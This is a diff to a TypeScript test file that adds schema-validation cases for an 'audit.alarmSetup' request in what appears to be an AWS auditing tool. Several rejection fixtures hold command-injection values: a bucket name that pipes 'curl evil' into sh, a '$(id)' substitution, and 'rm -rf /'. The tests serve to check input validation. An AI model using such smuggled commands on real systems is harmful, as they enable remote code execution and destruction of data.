@@ -58,6 +58,7 @@ const valid: { [C in RequestChannel]: RequestArgs<C> } = {
   'forward.close': { forwardId: 'f1' },
   'policy.generate': { hostIds: ['h1', 'h2'], subnetId: 'subnet-0123456789abcdef0', securityGroupIds: ['sg-0123456789abcdef0'] },
   'audit.trail': { requestId: 'trail-1', profile: 'prod', region: 'eu-west-1', startTime: Date.now() - 3600_000 },
+  'audit.alarmSetup': { profile: 'prod', region: 'eu-west-1', topicArn: 'arn:aws:sns:eu-west-1:123456789012:security-alerts', threshold: 3 },
   'audit.local': { limit: 100 },
 };
 
@@ -118,6 +119,10 @@ describe('the contract schemas', () => {
       ['policy.generate', {}],
       ['policy.generate', { hostIds: ['h1'], subnetId: 'subnet-x; rm -rf /' }],
       ['audit.trail', { requestId: 't', profile: 'p', region: 'eu-west-1', startTime: 2000, endTime: 1000 }],
+      // Both reach a shell command line: nothing but a bucket name, nothing but a topic ARN.
+      ['audit.alarmSetup', { profile: 'p', region: 'eu-west-1', trailBucket: "logs'; curl evil|sh; '" }],
+      ['audit.alarmSetup', { profile: 'p', region: 'eu-west-1', topicArn: 'arn:aws:sns:eu-west-1:123456789012:x $(id)' }],
+      ['audit.alarmSetup', { profile: 'p', region: 'eu-west-1', threshold: 0 }],
     ];
     for (const [ch, args] of bad) expect(requests[ch].args.safeParse(args).success, `${ch} ${JSON.stringify(args).slice(0, 80)}`).toBe(false);
   });
